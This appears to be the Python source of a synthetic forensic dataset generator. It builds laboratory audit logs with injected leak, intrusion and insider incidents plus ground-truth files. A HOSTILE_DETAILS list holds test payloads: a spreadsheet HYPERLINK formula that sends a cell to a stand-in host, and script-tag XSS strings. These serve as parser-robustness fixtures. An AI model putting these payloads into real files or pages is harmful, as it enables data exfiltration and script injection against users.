"""Orchestration: plan the labs and incidents, build each lab's events, write everything."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import time
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq

from ..errors import LabForensicsError
from . import artefacts as art
from .activity import failed_typos, hotline_activity, interface_events, nightly_job, staff_activity
from .clock import DAY, date_of, day_number, dst_bounds, local_offset
from .incidents import (
    S,
    Special,
    Tag,
    is_change_day,
    migration_extraction,
    pick_open_day,
    session_block,
)
from .linkage import LinkageSettings, generate_linkage_case
from .model import (
    ACTS,
    MIGRATION,
    MIGRATION_PLACE,
    MODULES,
    A,
    Block,
    Lab,
    ev_cat,
    ev_take,
    french_holidays,
    local_to_utc,
    luhn_digit,
    setup_calendar,
    setup_patients,
    setup_staff,
)
from .writers import (
    BOM,
    CURRENT_HEADER,
    LEGACY_HEADER,
    csv_quote,
    format_rows,
    group_digits,
    gzip_bytes,
    hms_table,
)

__all__ = ["generate", "SynthResult", "SynthError", "TRUTH_EVENT_COLUMNS"]

GENERATOR_VERSION = "1"


class SynthError(LabForensicsError):
    """Bad parameters for the synthetic generator."""


@dataclass
class SynthResult:
    """What :func:`generate` wrote.

    Attributes
    ----------
    out, evidence, truth, truth_events, truth_sessions : pathlib.Path
    leak_ipps, leak_nirs : pathlib.Path or None
        ``leak/leaked_ipps.csv`` and ``leak/leaked_nirs.csv`` (None without incident a).
    patient_index : list of pathlib.Path
        ``leak/patient_index_<LAB>.csv`` (IPP;NIR) for every lab.
    xferlog : pathlib.Path or None
    counts : dict
        ``files``, ``events`` (rows written that are events), ``sessions``,
        ``incidents``, ``leaked_patients``, ``seconds``, ``events_per_s``.
    """

    out: Path
    evidence: Path
    truth: Path
    truth_events: Path
    truth_sessions: Path
    leak_ipps: Path | None
    leak_nirs: Path | None
    patient_index: list[Path] = field(default_factory=list)
    xferlog: Path | None = None
    counts: dict = field(default_factory=dict)

    def __repr__(self) -> str:
        c = ", ".join(f"{k}={v}" for k, v in self.counts.items())
        return f"SynthResult(out={str(self.out)!r}, {c})"


TRUTH_EVENT_SCHEMA = pa.schema(
    [
        ("source_file", pa.string()),
        ("source_line", pa.int64()),
        ("ts", pa.timestamp("ns", tz="UTC")),
        ("ts_quality", pa.string()),
        ("lab", pa.string()),
        ("site", pa.string()),
        ("account", pa.string()),
        ("role", pa.string()),
        ("host", pa.string()),
        ("src_ip", pa.string()),
        ("module", pa.string()),
        ("action", pa.string()),
        ("outcome", pa.string()),
        ("ipp", pa.string()),
        ("request", pa.string()),
        ("records", pa.int64()),
        ("bytes", pa.int64()),
        ("app_session", pa.string()),
        ("detail", pa.string()),
        ("incident", pa.string()),
        ("trap", pa.string()),
        ("session", pa.int64()),
        ("lost", pa.bool_()),
    ]
)
TRUTH_EVENT_COLUMNS = tuple(TRUTH_EVENT_SCHEMA.names)
TRUTH_SESSION_SCHEMA = pa.schema(
    [
        ("session", pa.int64()),
        ("lab", pa.string()),
        ("account", pa.string()),
        ("role", pa.string()),
        ("start", pa.timestamp("ns", tz="UTC")),
        ("end", pa.timestamp("ns", tz="UTC")),
        ("n_events", pa.int64()),
        ("n_lost", pa.int64()),
        ("has_logout", pa.bool_()),
        ("host", pa.string()),
        ("concurrent", pa.bool_()),
        ("failed_logins_before", pa.int64()),
        ("app_session", pa.string()),
        ("incident", pa.string()),
        ("trap", pa.string()),
    ]
)

HOSTILE_DETAILS = (
    '=HYPERLINK("http://x.example/?"&A1;"ok")',
    "@SUM(1+1)",
    "-5.2",
    "+33 2 99 00 00 00",
    'http://h.example/?q=a"b',
    "</td><script>alert(1)</script>",
    'Valeur corrigée; ancien: 5,2\nnouveau: 5,4 — l’unité reste g/L, coût 15€ "urgent"',
)
HOSTILE_ACCOUNTS = ("<img src=x onerror=alert(1)>", "@SUM(1+1)")
HOSTILE_HOSTS = ("cost $x^2$ \\$HOME", "</td><script>alert(1)</script>")


def _iso(t: int) -> str:
    return dt.datetime.fromtimestamp(int(t), dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def generate(
    out: str | Path,
    *,
    labs: int = 30,
    start: str = "2015-01-01",
    end: str = "2020-10-31",
    seed: int = 0,
    scale: float = 1.0,
    incidents: tuple[str, ...] | list[str] = ("a", "b", "c", "d"),
    artefacts: bool = True,
    hostile: bool = True,
    transfers: bool = True,
    gzip_after_days: int = 60,
    leak_sample: float = 1.0,
    finess_in_lab_column: bool = False,
    requested_extractions: bool = False,
    linkage: bool = False,
) -> SynthResult:
    """Write synthetic multi-lab LIS audit evidence with its ground truth.

    Parameters
    ----------
    out : str or Path
        Output folder (created). A previous generation there (``truth.json``
        present) is removed first: only ``evidence/``, ``leak/``,
        ``transfers/`` and the truth files.
    labs : int, default 30
        Number of labs (codes ``L01`` ...).
    start, end : str, default "2015-01-01", "2020-10-31"
        First and last day (ISO dates, inclusive) of the daily files.
    seed : int, default 0
        Seed of every random draw (numpy ``PCG64`` streams derived from
        ``SeedSequence([seed, stream])``, stream 0 for the plan and k for lab k).
    scale : float, default 1.0
        Activity multiplier (staff, patients, visits). 1.0 at 30 labs over
        the default period gives about 6 million events.
    incidents : sequence of {"a", "b", "c", "d"}
        Which incident kinds to inject (see the package docstring).
    artefacts : bool, default True
        Inject the file artefacts of the format doc (recorded in truth).
    hostile : bool, default True
        Put hostile text in a few account, host and comment fields.
    transfers : bool, default True
        Write ``transfers/xferlog``.
    gzip_after_days : int, default 60
        Legacy files dated more than this many days before the lab's
        migration are gzipped.
    leak_sample : float, default 1.0
        Share of the extracted patients written to the leak files (a seeded
        sample, kept in registry order), as when only part of a leak surfaces.
    finess_in_lab_column : bool, default False
        Lab ``L01``'s legacy files write its FINESS number in ``LABO`` instead
        of its code (read them with ``lab_aliases`` from ``truth["labs"]``).
    requested_extractions : bool, default False
        Also write the extraction the vendor was asked for: 20-40 days before
        each migration, ``migration.editeur`` extracts a reference table
        (hundreds of records, no patient) by day, and the vendor's import
        server fetches it from the FTP server (trap ``migration_request``).
    linkage : bool, default False
        Also write the leak-linkage case of :func:`labforensics.synth.linkage.generate_linkage_case`
        (``patients/``, ``dump/``, ``linkage_truth.parquet``...), about ``4000 * scale`` index
        rows per lab, a vendor extraction copied on ``end``; ``counts["linkage"]`` has its counts.

    Returns
    -------
    SynthResult

    Raises
    ------
    SynthError
        On bad parameters (end before start, no labs, unknown incident kind).
    """
    t_begin = time.perf_counter()
    out = Path(out)
    d0 = day_number(dt.date.fromisoformat(start))
    d1 = day_number(dt.date.fromisoformat(end))
    if d1 < d0:
        raise SynthError(f"end {end} is before start {start}; swap them")
    if labs < 1 or labs > 999:
        raise SynthError(f"labs must be within 1..999, got {labs}")
    if not 0 < leak_sample <= 1:
        raise SynthError(f"leak_sample must be within (0, 1], got {leak_sample}")
    if scale <= 0:
        raise SynthError(f"scale must be positive, got {scale}")
    bad = sorted(set(incidents) - {"a", "b", "c", "d"})
    if bad:
        raise SynthError(f"unknown incident kinds {bad}; use a subset of ('a', 'b', 'c', 'd')")
    incidents = tuple(sorted(set(incidents)))
    _clear_previous(out)
    for sub in ("evidence", "leak", "transfers"):
        (out / sub).mkdir(parents=True, exist_ok=True)

    plan = _plan(labs, d0, d1, seed, incidents, hostile)
    hol = french_holidays(d0 - 1, d1 + 1)
    ev_writer = pq.ParquetWriter(
        out / "truth_events.parquet", TRUTH_EVENT_SCHEMA, compression="zstd"
    )
    ss_writer = pq.ParquetWriter(
        out / "truth_sessions.parquet", TRUTH_SESSION_SCHEMA, compression="zstd"
    )
    truth_labs, truth_incidents, truth_traps, truth_artefacts = [], [], [], []
    files_acc: dict[str, dict] = {}
    extractions: list[dict] = []
    requested: list[dict] = []
    leak_rows: list[tuple[str, str, str]] = []
    index_paths = []
    hostile_truth: list[dict] = []
    sess_offset = 0
    n_events = 0
    try:
        for lp in plan["labs"]:
            lab = Lab(
                k=lp["k"],
                code=lp["code"],
                finess=lp["finess"],
                size=lp["size"],
                migration=lp["migration"],
                n_sites=lp["n_sites"],
                rng=np.random.Generator(np.random.PCG64(np.random.SeedSequence([seed, lp["k"]]))),
            )
            if finess_in_lab_column and lab.k == 1:
                lab.legacy_label = lab.finess
            setup_calendar(lab, d0, d1, hol)
            ev, tags, extra = _build_lab(
                lab, lp, scale, d0, d1, artefacts, hostile_truth, requested_extractions
            )
            res = _write_lab(lab, ev, tags, out, d0, d1, gzip_after_days, artefacts, sess_offset)
            ev_writer.write_table(res["events"])
            ss_writer.write_table(res["sessions"])
            sess_offset += res["sessions"].num_rows
            n_events += res["n_events"]
            files_acc.update(res["files"])
            truth_artefacts.extend(res["artefacts"])
            for tg in tags:
                rec = {
                    "id": tg.id,
                    "kind": tg.kind,
                    "lab": tg.lab,
                    "account": tg.account,
                    "role": tg.role,
                    **tg.info,
                    **res["tag_stats"].get(tg.id, {}),
                }
                if tg.group == "incident":
                    rec["vector"] = tg.vector
                    truth_incidents.append(rec)
                else:
                    truth_traps.append(rec)
            requested.extend(dict(x, lab=lab.code) for x in extra.get("requested", []))
            for x in extra.get("extractions", []):
                x = dict(x, lab=lab.code)
                extractions.append(x)
                n = x["records"]
                pick = np.arange(n)
                if leak_sample < 1:
                    pick = np.sort(lab.rng.choice(n, size=round(n * leak_sample), replace=False))
                for i in pick.tolist():
                    leak_rows.append((lab.code, str(lab.ipp[i]), lab.nir[i]))
            p = out / "leak" / f"patient_index_{lab.code}.csv"
            body = "IPP;NIR\n" + "".join(
                f"{i};{n}\n" for i, n in zip(lab.ipp.tolist(), lab.nir, strict=True)
            )
            p.write_bytes(body.encode("utf-8"))
            index_paths.append(p)
            truth_labs.append(
                {
                    "code": lab.code,
                    "finess": lab.finess,
                    "legacy_lab_column": "finess" if lab.legacy_label else "code",
                    "size": round(lab.size, 4),
                    "sites": [f"S{i}" for i in range(1, lab.n_sites + 1)],
                    "migration_date": str(date_of(lab.migration)),
                    "dialect_switch": {
                        "legacy_until": str(date_of(lab.migration - 1)),
                        "current_from": str(date_of(lab.migration)),
                    },
                    "gzip_before": str(date_of(lab.migration - gzip_after_days)),
                    "networks": {
                        "lab": f"10.{lab.k % 250}.0.0/16",
                        "vendor": "172.16.0.0/16",
                        "migration": "172.16.50.0/24",
                    },
                    "patients_registered": int(len(lab.ipp)),
                    "patients_initial": int((lab.reg_day < d0).sum()),
                    "accounts": sorted(
                        ({"account": a.name, "role": a.role} for a in lab.accounts),
                        key=lambda r: (r["account"], r["role"]),
                    ),
                }
            )
    finally:
        ev_writer.close()
        ss_writer.close()

    leak_ipps = leak_nirs = None
    if extractions:
        leak_ipps = out / "leak" / "leaked_ipps.csv"
        leak_ipps.write_bytes(
            ("lab;ipp\n" + "".join(f"{a};{b}\n" for a, b, _ in leak_rows)).encode()
        )
        leak_nirs = out / "leak" / "leaked_nirs.csv"
        leak_nirs.write_bytes(("nir\n" + "".join(f"{c}\n" for _, _, c in leak_rows)).encode())
    xfer_path = None
    transfers_truth: list[dict] = []
    requested_truth: list[dict] = []
    if transfers:
        xfer_path = out / "transfers" / "xferlog"
        transfers_truth, requested_truth = art.write_xferlog(
            xfer_path,
            extractions,
            requested,
            plan,
            np.random.Generator(np.random.PCG64(np.random.SeedSequence([seed, 10_000]))),
            d0,
            d1,
        )

    by_file = {r["file"]: r for r in requested_truth}
    for r in truth_traps:  # the requested extraction's own FTP path, beside its trap
        if r["kind"] == "migration_request" and r["file"] in by_file:
            x = by_file[r["file"]]
            r["transfer"] = {
                k: x[k] for k in ("upload_utc", "upload_host", "uploader", "downloads")
            }
    totals = {
        k: int(sum(f[k] for f in files_acc.values()))
        for k in (
            "rows_read",
            "events",
            "rotation_duplicates",
            "repeated_headers",
            "quarantined",
            "ignored",
        )
    }
    seconds = time.perf_counter() - t_begin
    truth = {
        "generator": {"name": "labforensics.synth", "version": GENERATOR_VERSION},
        "parameters": {
            "labs": labs,
            "start": start,
            "end": end,
            "seed": seed,
            "scale": scale,
            "incidents": list(incidents),
            "artefacts": artefacts,
            "hostile": hostile,
            "transfers": transfers,
            "gzip_after_days": gzip_after_days,
            "leak_sample": leak_sample,
            "finess_in_lab_column": finess_in_lab_column,
            "requested_extractions": requested_extractions,
            "timezone": "Europe/Paris",
        },
        "layout": {
            "evidence": "evidence/<LAB>/AUDIT_<LAB>_<YYYYMMDD>.csv[.gz] (legacy) and "
            "evidence/<LAB>/audit_<lab>_<YYYY-MM-DD>.csv (current); source_file is relative to evidence/",
        },
        "labs": truth_labs,
        "incidents": sorted(truth_incidents, key=lambda r: r["id"]),
        "traps": sorted(truth_traps, key=lambda r: r["id"]),
        "artefacts": sorted(truth_artefacts, key=lambda r: (r["file"], r["line"] or 0, r["kind"])),
        "hostile": sorted(hostile_truth, key=lambda r: (r["lab"], r["field"], r["value"])),
        "transfers": transfers_truth,
        "leak": {
            "patients": len(leak_rows),
            "labs": sorted({x["lab"] for x in extractions}),
            "files": sorted(x["file"] for x in extractions),
        },
        "accounting": {
            "totals": {
                **totals,
                "truncated_files": sorted(k for k, f in files_acc.items() if f["truncated"]),
            },
            "files": {k: files_acc[k] for k in sorted(files_acc)},
        },
        "counts": {"files": len(files_acc), "events": n_events, "sessions": sess_offset},
    }
    truth_path = out / "truth.json"
    truth_path.write_text(
        json.dumps(truth, sort_keys=True, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    linkage_counts = {}
    if linkage:  # the leak-linkage case beside the audit evidence (issue 13, item 9)
        lk = generate_linkage_case(
            out, labs=labs, patients_per_lab=max(100, round(4000 * scale)), seed=seed,
            settings=LinkageSettings(copy_date=end, evidence_start=start,
                                     index_date=str(date_of(d1 + 120))),
        )  # fmt: skip
        linkage_counts = {"linkage": lk.counts}
    return SynthResult(
        out=out,
        evidence=out / "evidence",
        truth=truth_path,
        truth_events=out / "truth_events.parquet",
        truth_sessions=out / "truth_sessions.parquet",
        leak_ipps=leak_ipps,
        leak_nirs=leak_nirs,
        patient_index=index_paths,
        xferlog=xfer_path,
        counts={
            "files": len(files_acc),
            "events": n_events,
            "sessions": sess_offset,
            "incidents": len(truth_incidents),
            "leaked_patients": len(leak_rows),
            "seconds": round(seconds, 2),
            "events_per_s": round(n_events / max(seconds, 1e-9)),
            **linkage_counts,
        },
    )


_OWNED = (
    "evidence",
    "leak",
    "transfers",
    "truth.json",
    "truth_events.parquet",
    "truth_sessions.parquet",
)


def _clear_previous(out: Path) -> None:
    """Remove a previous generation in ``out`` (only the paths the generator writes).

    Stale daily files from another configuration would otherwise be read as
    evidence. A folder that holds ``evidence/`` but no ``truth.json`` was not
    made by the generator and is left alone: :class:`SynthError`.
    """
    if not out.exists():
        return
    ev = out / "evidence"
    if ev.exists() and any(ev.iterdir()) and not (out / "truth.json").exists():
        raise SynthError(
            f"{out} holds evidence/ but no truth.json: not a generated folder; choose another output"
        )
    for name in _OWNED:
        p = out / name
        if p.is_dir():
            shutil.rmtree(p)
        elif p.exists():
            p.unlink()


def _plan(
    labs: int, d0: int, d1: int, seed: int, incidents: tuple[str, ...], hostile: bool
) -> dict:
    """Lab identities, migration dates and where each incident happens."""
    rng = np.random.Generator(np.random.PCG64(np.random.SeedSequence([seed, 0])))
    span = d1 - d0
    lo = max(day_number(dt.date(2018, 1, 1)), d0 + span // 4)
    hi = min(day_number(dt.date(2020, 10, 31)), d1 - max(1, span // 8))
    if hi <= lo:
        lo, hi = d0 + int(span * 0.3), d0 + int(span * 0.85)
    hi = max(hi, lo + 1)
    mig = lo + ((hi - lo) * (np.arange(labs) + rng.random(labs)) / labs).astype(np.int64)
    mig = mig[rng.permutation(labs)]
    sizes = np.clip(rng.lognormal(0.0, 0.4, labs), 0.4, 2.5)
    deps = ("22", "29", "35", "44", "56", "75", "69", "13", "33", "59")
    out_labs = []
    for i in range(labs):
        k = i + 1
        body = deps[int(rng.integers(len(deps)))] + "0" + f"{int(rng.integers(0, 100000)):05d}"
        out_labs.append(
            {
                "k": k,
                "code": f"L{k:02d}",
                "finess": body + luhn_digit(body),
                "size": float(sizes[i]),
                "n_sites": 1 + int(sizes[i] > 1.0) + int(sizes[i] > 1.6),
                "migration": int(mig[i]),
                "a_day": None,
                "b": False,
                "c": False,
                "d": False,
                "hostile": False,
            }
        )
    if "a" in incidents:
        elig = []
        for lp in out_labs:
            day = lp["migration"] - int(rng.integers(3, 21))
            while is_change_day(day):
                day -= 1
            if day >= d0 + 1 and lp["migration"] <= d1:
                elig.append((lp, day))
        n_a = max(1, round(0.8 * len(elig))) if elig else 0
        for j in sorted(rng.permutation(len(elig))[:n_a].tolist()):
            elig[j][0]["a_day"] = elig[j][1]
    perm = rng.permutation(labs).tolist()
    pos = 0
    for kind, n in (("b", 1 if labs < 4 else 2), ("c", 1), ("d", 1)):
        if kind not in incidents:
            continue
        for _ in range(n):
            out_labs[perm[pos % labs]][kind] = True
            pos += 1
    if hostile:
        out_labs[0]["hostile"] = True
        out_labs[-1]["hostile"] = True
    return {"labs": out_labs}


def _remove_overlaps(ev: Block, windows: list[tuple[int, int, int]], margin: int = 2100) -> Block:
    """Drop routine sessions of an account that come within ``margin`` s of its explicit sessions."""
    if not windows or not len(ev["t"]):
        return ev
    sess = ev["sess"]
    ns = int(sess.max()) + 1
    tmin = np.full(ns, np.iinfo(np.int64).max)
    tmax = np.full(ns, np.iinfo(np.int64).min)
    np.minimum.at(tmin, sess, ev["t"])
    np.maximum.at(tmax, sess, ev["t"])
    s_acc = np.zeros(ns, np.int64)
    s_acc[sess] = ev["acc"]
    bad = np.zeros(ns, bool)
    for acc, w0, w1 in windows:
        bad |= (s_acc == acc) & (tmax >= w0 - margin) & (tmin <= w1 + margin)
    return ev_take(ev, ~bad[sess])


def _build_lab(
    lab: Lab,
    lp: dict,
    scale: float,
    d0: int,
    d1: int,
    artefacts: bool,
    hostile_truth: list[dict],
    requested: bool = False,
) -> tuple[Block, list[Tag], dict]:
    """All events of one lab (unsorted block) and the tags they carry."""
    rng = lab.rng
    staff = setup_staff(lab, scale)
    setup_patients(lab, scale)
    tags: list[Tag] = []
    extra: dict = {"extractions": []}

    def tag(**kw) -> int:
        tags.append(Tag(lab=lab.code, **kw))
        return len(tags) - 1

    ev_staff = staff_activity(lab, staff)
    n1 = int(ev_staff["sess"].max()) + 1 if len(ev_staff["sess"]) else 0
    ev_hot = hotline_activity(lab, scale, n1)
    n2 = int(ev_hot["sess"].max()) + 1 if len(ev_hot["sess"]) else n1
    routine = ev_cat([ev_staff, ev_hot])
    sp = Special()
    secs = staff["SECRETAIRE"][0]
    admin = int(staff["ADMIN_LABO"][0][0])

    # --- benign traps: monthly billing export, yearly statistics extraction
    n_vis = lab.ve - lab.vs
    od_month = lab.od.astype("datetime64[D]").astype("datetime64[M]")
    months = np.unique(lab.days.astype("datetime64[D]").astype("datetime64[M]"))
    for mth in months.tolist():
        m64 = np.datetime64(mth, "M")
        first = int(m64.astype("datetime64[D]").astype(np.int64))
        day = pick_open_day(lab, first + 1, first + 8, rng=rng)
        if day is None:
            continue
        prev = n_vis[od_month == m64 - 1].sum()
        nb = int(max(prev * rng.integers(6, 10), rng.integers(1000, 1600)))
        acc = int(secs[0])
        label = str(m64 - 1)
        ti = tag(
            id=f"billing-{lab.code}-{label}",
            group="trap",
            kind="billing",
            account=lab.accounts[acc].name,
            role="SECRETAIRE",
            info={"period": label, "records": nb},
        )
        t0 = int(local_to_utc(day, 34200 + int(rng.integers(0, 3600))))
        session_block(
            lab, sp, acc, t0,
            [S(0, "ADMIN", "CONNEXION"),
             S(rng.integers(30, 240), "FACTURATION", "RECHERCHE", nb=nb, det=f"Actes facturables {label}"),
             S(rng.integers(30, 300), "FACTURATION", "EXPORT", nb=nb, vol=nb * int(rng.integers(180, 260)),
               det=f"Export facturation {label} vers télétransmission"),
             S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
            ti, sess_base=n2,
        )  # fmt: skip
    years = sorted({date_of(int(d)).year for d in lab.days})
    for y in years:
        first = day_number(dt.date(y, 1, 10))
        day = pick_open_day(lab, first, first + 10, rng=rng)
        if day is None:
            continue
        yr = lab.od.astype("datetime64[D]").astype("datetime64[Y]").astype(np.int64) + 1970
        nb = int(max(n_vis[yr == y - 1].sum(), rng.integers(2000, 3000)))
        ti = tag(
            id=f"statistics-{lab.code}-{y - 1}",
            group="trap",
            kind="statistics",
            account=lab.accounts[admin].name,
            role="ADMIN_LABO",
            info={"period": str(y - 1), "records": nb},
        )
        t0 = int(local_to_utc(day, 50400 + int(rng.integers(0, 7200))))
        session_block(
            lab, sp, admin, t0,
            [S(0, "ADMIN", "CONNEXION"),
             S(rng.integers(30, 240), "EXTRACTION", "RECHERCHE", nb=nb, det=f"Activité {y - 1}"),
             S(rng.integers(60, 900), "EXTRACTION", "EXTRACTION", nb=nb, vol=nb * int(rng.integers(60, 120)),
               det=f"Statistiques annuelles {y - 1} vers \\\\SRV-{lab.code}\\stats\\stats_{y - 1}.xlsx (anonymisées)"),
             S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
            ti, sess_base=n2,
        )  # fmt: skip

    # --- the extraction the vendor was asked for (reference tables), weeks before migrating
    if requested and d0 + 25 < lab.migration <= d1:
        day = pick_open_day(lab, lab.migration - 40, lab.migration - 20, rng=rng)
        if day is not None:
            macc = lab.add_account(MIGRATION, "EDITEUR", 1, *MIGRATION_PLACE)
            ymd = str(np.datetime64(day, "D")).replace("-", "")
            fname = f"{lab.code}_referentiel_{ymd}.csv"
            nb = int(rng.integers(300, 1500))
            vol = nb * int(rng.integers(80, 200))
            ti = tag(
                id=f"migration_request-{lab.code}",
                group="trap",
                kind="migration_request",
                account=MIGRATION,
                role="EDITEUR",
                info={"file": fname, "records": nb, "bytes": vol},
            )
            t0 = int(local_to_utc(day, 36000 + int(rng.integers(0, 14400))))
            rq = session_block(
                lab, sp, macc, t0,
                [S(0, "ADMIN", "CONNEXION"),
                 S(rng.integers(60, 300), "EXTRACTION", "EXTRACTION", nb=nb, vol=vol,
                   det=f"Extraction référentiel analyses vers ftp://transfert/{fname}"),
                 S(rng.integers(60, 600), "ADMIN", "DECONNEXION")],
                ti, sess_base=n2,
            )  # fmt: skip
            extra["requested"] = [
                {
                    "file": fname,
                    "records": nb,
                    "bytes": vol,
                    "t_extract": int(rq["t"][1]),
                    "day": day,
                }
            ]

    # --- incidents
    if lp["a_day"] is not None:
        ti = tag(
            id=f"a-{lab.code}",
            group="incident",
            kind="a",
            vector="vendor",
            account="migration.editeur",
            role="EDITEUR",
        )
        x = migration_extraction(lab, sp, lp["a_day"], ti, n2)
        tags[ti].info = {
            "file": x["file"],
            "records": x["records"],
            "bytes": x["bytes"],
            "migration_date": str(date_of(lab.migration)),
            "registered_before": x["records"],
            "horizon": _iso(x["t_extract"]),
        }
        extra["extractions"].append(x)
    if lp["b"]:
        width = min(42, max(7, (d1 - d0) // 2))
        b0 = d0 + int(rng.integers(0, max(1, d1 - d0 - width)))
        acc = lab.add_account("hotline.editeur", "EDITEUR", 1, "TS-EDITEUR-01", "172.16.10.11")
        ti = tag(
            id=f"b-{lab.code}",
            group="incident",
            kind="b",
            vector="vendor",
            account=lab.accounts[acc].name,
            role="EDITEUR",
        )
        host, ip = lab.hosts("PC-HOTLINE-23"), lab.ips("172.16.30.77")
        days = [
            d
            for d in lab.od[(lab.od >= b0) & (lab.od < b0 + width)].tolist()
            if not is_change_day(d)
        ]
        pick = [d for d in days if rng.random() < 0.45] or days[:3]
        total = 0
        for day in pick:
            t0 = int(local_to_utc(day, 66600 + int(rng.integers(0, 7200))))
            steps = [
                S(0, "ADMIN", "CONNEXION"),
                S(rng.integers(30, 200), "SAISIE", "RECHERCHE", nb=rng.integers(20, 200)),
            ]
            for _ in range(1 + int(rng.random() < 0.5)):
                nb = int(rng.integers(15, 120))
                total += nb
                steps.append(S(rng.integers(30, 400), "RESULTATS", "EXPORT", nb=nb, vol=nb * int(rng.integers(300, 600)),
                               det="Export liste patients (CSV)"))  # fmt: skip
            if rng.random() < 0.8:
                steps.append(S(rng.integers(30, 300), "ADMIN", "DECONNEXION"))
            session_block(lab, sp, acc, t0, steps, ti, host=host, ip=ip, sess_base=n2)
        tags[ti].info = {"exported_records": total, "sessions": len(pick), "src_ip": "172.16.30.77"}
    if lp["c"]:
        acc = int(secs[int(rng.integers(len(secs)))])
        day = pick_open_day(lab, d0 + (d1 - d0) // 5, d1 - 1, rng=rng) or int(lab.od[-1])
        ip_s = f"203.0.113.{int(rng.integers(2, 250))}"
        host_s = f"DESKTOP-{int(rng.integers(0, 16**6)):06X}"
        host, ip = lab.hosts(host_s), lab.ips(ip_s)
        ti = tag(id=f"c-{lab.code}", group="incident", kind="c", vector="external", account=lab.accounts[acc].name,
                 role=lab.accounts[acc].role)  # fmt: skip
        t0 = int(local_to_utc(day, 77400 + int(rng.integers(0, 5400))))
        nf = int(rng.integers(15, 40))
        fails = [
            S(0 if i == 0 else rng.integers(2, 15), "ADMIN",
              "ECHEC_CONNEXION" if rng.random() < 0.6 else "CONNEXION", ok=False, det="Mot de passe incorrect")
            for i in range(nf)
        ]  # fmt: skip
        fb = session_block(lab, sp, acc, t0, fails, ti, host=host, ip=ip, sess=False)
        nb = int(rng.integers(2000, 8000))
        steps = [
            S(0, "ADMIN", "CONNEXION"),
            S(rng.integers(20, 120), "SAISIE", "RECHERCHE", nb=nb, det="Recherche tous patients"),
        ]
        for _ in range(1 + int(rng.random() < 0.5)):
            steps.append(S(rng.integers(30, 300), "RESULTATS", "EXPORT", nb=nb, vol=nb * int(rng.integers(300, 600)),
                           det="Export résultats (CSV)"))  # fmt: skip
        fb["fsess"][:] = sp.n_sess + n2  # the failures precede the attacker's session
        session_block(
            lab,
            sp,
            acc,
            int(fb["t"][-1]) + int(rng.integers(20, 120)),
            steps,
            ti,
            host=host,
            ip=ip,
            sess_base=n2,
        )
        tags[ti].info = {
            "src_ip": ip_s,
            "host": host_s,
            "failed_logins": nf,
            "day": str(date_of(day)),
        }
    if lp["d"]:
        pool = np.concatenate([staff["TECHNICIEN"][0], secs])
        acc = int(pool[int(rng.integers(len(pool)))])
        width = min(30, max(10, (d1 - d0) // 2))
        b0 = d0 + int(rng.integers(0, max(1, d1 - d0 - width)))
        days = [
            d
            for d in lab.od[(lab.od >= b0) & (lab.od < b0 + width) & ~lab.od_sat].tolist()
            if not is_change_day(d)
        ]
        pick = sorted(rng.permutation(days)[:8].tolist()) if days else []
        ti = tag(id=f"d-{lab.code}", group="incident", kind="d", vector="insider", account=lab.accounts[acc].name,
                 role=lab.accounts[acc].role)  # fmt: skip
        total = 0
        for day in pick:
            nreg = lab.registered_before(day)
            m = int(rng.integers(30, 70))
            total += m
            pats = rng.integers(0, max(nreg, 1), m)
            steps = [S(0, "ADMIN", "CONNEXION")]
            steps += [
                S(rng.integers(10, 90), "RESULTATS", "CONSULTATION", pat=p) for p in pats.tolist()
            ]
            steps.append(S(rng.integers(20, 200), "ADMIN", "DECONNEXION"))
            session_block(
                lab,
                sp,
                acc,
                int(local_to_utc(day, 44100 + int(rng.integers(0, 1800)))),
                steps,
                ti,
                sess_base=n2,
            )
        tags[ti].info = {"consultations": total, "days": [str(date_of(d)) for d in pick]}

    routine = _remove_overlaps(routine, sp.windows)
    special = ev_cat(sp.blocks)
    people = ev_cat([routine, special])

    # --- hostile text
    if lp["hostile"]:
        _hostile(lab, staff, people, hostile_truth, tags)

    # --- service accounts: interfaces and the nightly job
    iface = interface_events(lab, people)
    ti_if = tag(id=f"interface-{lab.code}", group="trap", kind="interface", account="hprim.emission", role="INTERFACE",
                info={"accounts": ["automate01", "hprim.emission"]})  # fmt: skip
    iface["inc"][:] = ti_if
    arch_days = np.zeros(0, np.int64)
    if artefacts:
        n_arch = max(1, len(lab.days) // 180)
        arch_days = np.sort(rng.choice(lab.days, size=min(n_arch, len(lab.days)), replace=False))
    base = n2 + sp.n_sess
    night = nightly_job(lab, base, arch_days)
    ti_n = tag(id=f"nightly_job-{lab.code}", group="trap", kind="nightly_job", account="batch.nuit", role="INTERFACE",
               info={"host": f"SRV-{lab.code}"})  # fmt: skip
    night["inc"][:] = ti_n
    if artefacts:  # some legacy spring-forward nights written by a clock not yet switched
        for y in sorted({date_of(int(d)).year for d in lab.days}):
            sp_t = dst_bounds(y)[0]
            if d0 <= sp_t // DAY <= d1 and sp_t // DAY < lab.migration and rng.random() < 0.6:
                w = (night["t"] >= sp_t) & (night["t"] < sp_t + 3600)
                night["shift"][w] = True
    typos = failed_typos(lab, people)
    ev = ev_cat([people, iface, night, typos])
    return ev, tags, extra


def _hostile(lab: Lab, staff: dict, ev: Block, hostile_truth: list[dict], tags: list[Tag]) -> None:
    rng = lab.rng
    tech = staff["TECHNICIEN"][0]
    prel = staff["PRELEVEUR"][0]
    changes = [
        ("account", int(tech[0]), HOSTILE_ACCOUNTS[0]),
        ("account", int(prel[0]), HOSTILE_ACCOUNTS[1]),
        ("host", int(staff["SECRETAIRE"][0][0]), HOSTILE_HOSTS[0]),
        ("host", int(staff["BIOLOGISTE"][0][0]), HOSTILE_HOSTS[1]),
    ]
    for fld, acc, value in changes:
        a = lab.accounts[acc]
        if fld == "account":
            for tg in tags:  # ground truth names the account as written
                if tg.account == a.name:
                    tg.account = value
            del lab.acc_index[a.name]
            a.name = value
            lab.acc_index[value] = acc
        else:
            old = a.host
            a.host = lab.hosts(value)
            ev["host"][(ev["acc"] == acc) & (ev["host"] == old)] = a.host
        hostile_truth.append({"lab": lab.code, "field": fld, "value": value, "account": a.name})
    cand = np.flatnonzero((ev["act"] == A["MODIFICATION"]) & (ev["inc"] < 0))
    for value in HOSTILE_DETAILS:
        if not len(cand):
            break
        w = rng.choice(cand, size=min(3, len(cand)), replace=False)
        ev["det"][w] = lab.details(value)
